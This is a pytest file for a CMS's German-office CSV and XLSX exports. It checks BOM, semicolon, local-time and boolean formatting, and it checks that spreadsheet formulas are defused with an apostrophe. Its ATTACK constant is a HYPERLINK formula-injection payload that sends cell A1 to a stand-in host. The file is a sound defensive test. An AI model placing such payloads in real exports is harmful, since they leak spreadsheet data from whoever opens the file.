"""Exports for German offices (cms.exports): BOM, semicolons, local time, no formulas run."""

import datetime
import io

import openpyxl
import pytest
from wagtail.contrib.forms.models import FormSubmission

from cms.exports import cell_text, csv_text, safe_cell, xlsx_value
from tests.factories.cms import FormPageFactory

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("http://böse.example/?d="&A1;"Klick")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+49 2363 555", "'+49 2363 555"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTab", "'\tTab"),
        ("\rCR", "'\rCR"),
        ("Erika Brandt", "Erika Brandt"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_cells_that_a_spreadsheet_would_run_get_an_apostrophe(value, expected):
    assert safe_cell(value) == expected
    assert safe_cell(safe_cell(value)) == expected  # applying it twice changes nothing


def test_values_are_written_as_german_offices_read_them():
    berlin_afternoon = datetime.datetime(2026, 11, 30, 13, 30, 15, 123456, tzinfo=datetime.UTC)
    assert cell_text(berlin_afternoon) == "30.11.2026 14:30"
    summer = datetime.datetime(2026, 7, 1, 12, 0, tzinfo=datetime.UTC)
    assert cell_text(summer) == "01.07.2026 14:00"  # CEST, two hours ahead
    assert cell_text(datetime.date(2026, 11, 30)) == "30.11.2026"
    assert [cell_text(v) for v in (True, False, None)] == ["Ja", "Nein", ""]
    assert cell_text(["Sehen", "=Hören"]) == "Sehen, =Hören"
    assert csv_text([["Name", "Zahl"], ["Jörg; Müller", 3]]) == (
        '\ufeffName;Zahl\r\n"Jörg; Müller";3\r\n'
    )


def test_xlsx_cells_keep_dates_and_numbers_but_never_run_formulas():
    aware = datetime.datetime(2026, 7, 1, 12, 0, 30, 5, tzinfo=datetime.UTC)
    assert xlsx_value(aware) == datetime.datetime(2026, 7, 1, 14, 0)
    assert xlsx_value(datetime.date(2026, 11, 30)) == datetime.date(2026, 11, 30)
    assert xlsx_value(3) == 3 and xlsx_value(None) is None
    assert [xlsx_value(True), xlsx_value(False)] == ["Ja", "Nein"]
    assert xlsx_value("=1+1") == "'=1+1"

    class Service:  # a model instance, exported by its name
        def __str__(self):
            return "@CityApp"

    assert xlsx_value(Service()) == "'@CityApp"


@pytest.fixture
def submissions(home):
    page = FormPageFactory(parent=home, slug="barrierefreiheit")
    submission = FormSubmission.objects.create(
        page=page,
        form_data={"beschreibung": ATTACK, "ihre_e_mail_adresse": "jörg@example.org"},
    )
    # 13:30:15.123456 UTC is 14:30 in Datteln in November.
    FormSubmission.objects.filter(pk=submission.pk).update(
        submit_time=datetime.datetime(2026, 11, 30, 13, 30, 15, 123456, tzinfo=datetime.UTC)
    )
    return page


def test_form_submission_csv_opens_in_german_excel_with_local_time_and_no_formula(
    admin_client, submissions
):
    url = f"/admin/forms/submissions/{submissions.pk}/"
    response = admin_client.get(url, {"export": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "barrierefreiheit-eingaenge-" in response["Content-Disposition"]
    data = b"".join(response.streaming_content)
    assert data.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8 umlauts
    lines = data.decode("utf-8-sig").splitlines()
    assert lines[0] == "Einreichungsdatum;Beschreibung;Ihre E-Mail-Adresse"
    escaped = ATTACK.replace('"', '""')
    assert lines[1] == f'30.11.2026 14:30;"\'{escaped}";jörg@example.org'
    # The list in the admin shows the same time.
    assert "30.11.2026 14:30" in admin_client.get(url).content.decode()


def test_form_submission_xlsx_has_local_time_and_text_instead_of_formulas(
    admin_client, submissions
):
    response = admin_client.get(f"/admin/forms/submissions/{submissions.pk}/", {"export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header, row = list(sheet.values)
    assert header == ("Einreichungsdatum", "Beschreibung", "Ihre E-Mail-Adresse")
    assert row[0] == datetime.datetime(2026, 11, 30, 14, 30)
    assert row[1] == "'" + ATTACK


def test_city_report_csv_uses_the_same_rules():
    from events.workspace.reports import DIMENSIONS, Report, ReportRow, report_csv

    report = Report(
        dimension=DIMENSIONS["stadtteil"],
        start=datetime.date(2026, 1, 1),
        end=datetime.date(2026, 12, 31),
        rows=[ReportRow("=Ahsen", sessions_held=1)],
    )
    text = report_csv(report)
    assert text.startswith("\ufeffStadtteil;Termine stattgefunden;")
    assert text.splitlines()[1].startswith("'=Ahsen;1;")
